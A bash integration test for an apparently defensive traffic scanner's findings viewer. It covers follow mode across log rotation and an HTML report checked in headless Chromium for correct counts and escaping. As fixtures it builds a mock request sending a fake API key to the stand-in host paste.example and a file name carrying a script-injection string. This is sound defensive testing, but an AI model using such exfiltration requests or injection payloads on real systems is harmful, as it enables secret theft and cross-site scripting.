#!/usr/bin/env bash
# The live views (issue 14), on findings the real detector produced (`scan`):
#  - `findings --follow --json`: the backlog, then lines appended later, a
#    fold summary, and lines written after a rotation, each exactly once;
#    the table form prints rows (and the fold message) as they come;
#  - `findings --html FILE`: one page with no external assets, loaded in
#    headless Debian chromium: the counts it renders (total, per severity,
#    per pattern, per destination, rows shown) match the log; a snippet
#    holding </script> and markup stays text; a screenshot is kept in
#    $CS_BINARY_DIR/artifacts/findings-html.png.
set -euo pipefail
: "${CS_CLI:?}" "${CS_SOURCE_DIR:?}" "${CS_BINARY_DIR:?}"
work=$(mktemp -d)
pids=()
cleanup() {
	for p in "${pids[@]}"; do kill "$p" 2>/dev/null || true; done
	for p in "${pids[@]}"; do wait "$p" 2>/dev/null || true; done
	rm -rf "$work"
}
trap cleanup EXIT
fail() {
	echo "FAIL: $*" >&2
	exit 1
}
skip() {
	if [[ "${CI:-}" == "true" ]]; then
		echo "FAIL (CI): $1"
		exit 1
	fi
	echo "SKIP: $1"
	exit 77
}
CHROMIUM=$(command -v chromium || command -v chromium-browser || true)
[[ -n $CHROMIUM ]] || skip "chromium not installed (scripts/setup.sh installs it)"

logs=$work/logs
mkdir -p "$logs"
chmod 700 "$work" "$logs"
# Findings from the real detector: the demo captures, and a request whose
# redacted snippet carries markup that must stay text in the page.
key="sk-ant-api03-$(printf 'FAKEKEYFORHTML00%.0s' {1..6})AA"
# (the snippet's own context is redacted around secrets; the capture's name,
# which becomes the source, carries the markup instead)
hostile="$work/x<marquee>pwn<script>.http"
body="{\"api_key\":\"$key\"}"
printf 'POST /v1/x HTTP/1.1\r\nHost: paste.example\r\nContent-Type: application/json\r\nContent-Length: %s\r\n\r\n%s' \
	"${#body}" "$body" >"$hostile"
"$CS_CLI" scan "$CS_SOURCE_DIR"/tests/fixtures/demo/*.http >"$work/a.jsonl" 2>/dev/null
"$CS_CLI" scan "$hostile" >"$work/b.jsonl" 2>/dev/null
[[ $(wc -l <"$work/a.jsonl") -ge 3 && $(wc -l <"$work/b.jsonl") -ge 1 ]] || fail "scan produced too few findings"
grep -qF '<marquee>pwn<script>' "$work/b.jsonl" || fail "the hostile source lost its markup: $(cat "$work/b.jsonl")"
grep -qF "$key" "$work/b.jsonl" && fail "scan leaked the key"
install -m 600 "$work/a.jsonl" "$logs/findings.jsonl"

# 1. --follow, JSONL and table.
"$CS_CLI" findings --log-dir "$logs" --follow --json >"$work/follow.out" 2>"$work/follow.err" &
pids+=($!)
COLUMNS=200 "$CS_CLI" findings --log-dir "$logs" --follow >"$work/table.out" 2>&1 &
pids+=($!)
wait_count() { # FILE N
	for _ in $(seq 100); do [[ $(grep -c . "$1" 2>/dev/null || echo 0) -ge $2 ]] && return 0; sleep 0.1; done
	fail "$1 has $(grep -c . "$1" || true) lines, want $2: $(cat "$1")"
}
na=$(wc -l <"$work/a.jsonl")
wait_count "$work/follow.out" "$na"
# The table follower too must be past its start (its header comes after the
# backlog) before lines are appended: one appended while it still starts is
# read as backlog, which shows findings, not fold summaries (seen once under
# the sanitizer build).
for _ in $(seq 100); do grep -q '^TIME (UTC) ' "$work/table.out" && break; sleep 0.1; done
cat "$work/b.jsonl" >>"$logs/findings.jsonl"
fold='{"schema_version":"clawsec-traffic-fold/v1","platform":"nanoclaw","direction":"outbound","protocol":"http","threat_type":"EXFIL","pattern":"ai_api_key","severity":"critical","source":"scan/x","dest":"paste.example:80","count":7,"first_seen":"2026-12-05T10:00:00.000Z","last_seen":"2026-12-05T10:00:30.000Z","window_seconds":60,"message":"7 more of pattern ai_api_key to paste.example:80 in the last 30 s","timestamp":"2026-12-05T10:01:00.000Z"}'
echo "$fold" >>"$logs/findings.jsonl"
nb=$(wc -l <"$work/b.jsonl")
wait_count "$work/follow.out" $((na + nb + 1))
# Rotation: the writer renames the live file and starts a new one.
mv "$logs/findings.jsonl" "$logs/findings.jsonl.1"
install -m 600 /dev/null "$logs/findings.jsonl"
sleep 0.5
head -n 1 "$work/a.jsonl" >>"$logs/findings.jsonl"
wait_count "$work/follow.out" $((na + nb + 2))
sleep 0.5
diff "$work/follow.out" <(cat "$work/a.jsonl" "$work/b.jsonl" <(echo "$fold") <(head -n 1 "$work/a.jsonl")) >"$work/diff.txt" ||
	fail "--follow --json printed something else: $(cat "$work/diff.txt")"
[[ -s $work/follow.err ]] && fail "--follow complained: $(cat "$work/follow.err")"
grep -q '^TIME (UTC) ' "$work/table.out" || fail "table header: $(cat "$work/table.out")"
grep -q "7 more of pattern ai_api_key to paste.example:80 in the last 30 s" "$work/table.out" ||
	fail "fold summary not in the table: $(cat "$work/table.out")"
[[ $(grep -c 'pipe_to_shell' "$work/table.out") -ge 2 ]] || fail "table rows after rotation: $(cat "$work/table.out")"

# 2. --html, rendered by chromium.
cat "$logs/findings.jsonl.1" "$logs/findings.jsonl" >"$work/all.jsonl"
"$CS_CLI" findings --log-dir "$logs" --html "$work/page.html" || fail "--html"
[[ $(stat -c %a "$work/page.html") == 600 ]] || fail "page mode $(stat -c %a "$work/page.html")"
grep -qiE '<(link|img|iframe)|src=|href=|@import|url\(' <(sed '/id="data"/,$d' "$work/page.html") &&
	fail "the page refers to something outside itself"
grep -q "Content-Security-Policy\" content=\"default-src 'none'" "$work/page.html" || fail "no CSP"
grep -qF '<marquee>pwn<script>' "$work/page.html" && fail "data can open markup inside the script block"
flags=(--headless --no-sandbox --disable-gpu --disable-background-networking --disable-component-update
	--disable-sync --no-first-run)
timeout 90 "$CHROMIUM" "${flags[@]}" --user-data-dir="$work/profile1" --dump-dom "file://$work/page.html" \
	>"$work/dom.html" 2>"$work/chromium.log" || fail "chromium --dump-dom: $(tail -5 "$work/chromium.log")"
mkdir -p "$CS_BINARY_DIR/artifacts"
timeout 90 "$CHROMIUM" "${flags[@]}" --user-data-dir="$work/profile2" --window-size=1280,900 \
	--screenshot="$CS_BINARY_DIR/artifacts/findings-html.png" "file://$work/page.html" \
	>>"$work/chromium.log" 2>&1 || fail "chromium --screenshot: $(tail -5 "$work/chromium.log")"
[[ $(head -c 8 "$CS_BINARY_DIR/artifacts/findings-html.png" | od -An -tx1 | tr -d ' \n') == 89504e470d0a1a0a ]] ||
	fail "no PNG screenshot"
# The counts the page rendered, against the findings in the log (folds are not findings).
node -e '
const fs = require("fs");
const dom = fs.readFileSync(process.argv[1], "utf8");
const log = fs.readFileSync(process.argv[2], "utf8").trim().split("\n").map(JSON.parse)
	.filter((f) => f.schema_version === "clawsec-traffic-finding/v1");
const fail = (m) => { console.error(m); process.exit(1); };
const num = (re) => { const m = dom.match(re); if (!m) fail("not rendered: " + re); return +m[1]; };
if (num(/id="total">(\d+)</) !== log.length) fail("total");
if (num(/id="shown">(\d+)</) !== log.length) fail("shown");
for (const s of ["critical", "high", "medium", "low"])
	if (num(new RegExp(`id="sev-${s}">(\\d+)<`)) !== log.filter((f) => f.severity === s).length) fail(s);
const count = (k) => log.reduce((m, f) => m.set(f[k], (m.get(f[k]) || 0) + 1), new Map());
for (const [table, key] of [["by-pattern", "pattern"], ["by-dest", "dest"]]) {
	const part = dom.slice(dom.indexOf(`id="${table}"`), dom.indexOf("</table>", dom.indexOf(`id="${table}"`)));
	for (const [k, n] of count(key))
		if (!part.includes(`data-key="${k}">${n}<`)) fail(`${table} ${k} != ${n}`);
}
if ((dom.match(/<tr class="row"/g) || []).length !== log.length) fail("table rows");
if (dom.includes("<marquee")) fail("markup from a snippet became an element");
if (!dom.includes("x&lt;marquee&gt;pwn&lt;script&gt;.http")) fail("the source is not shown as text");
if ((dom.match(/<rect /g) || []).length < 1) fail("no timeline bars");
' "$work/dom.html" "$work/all.jsonl" || fail "rendered page: $(head -c 3000 "$work/dom.html")"
grep -qF "$key" "$work/page.html" "$work/dom.html" "$work/follow.out" "$work/table.out" && fail "the raw key leaked"
echo "ok: --follow across rotation, --html rendered by chromium with the log's counts; screenshot in $CS_BINARY_DIR/artifacts"
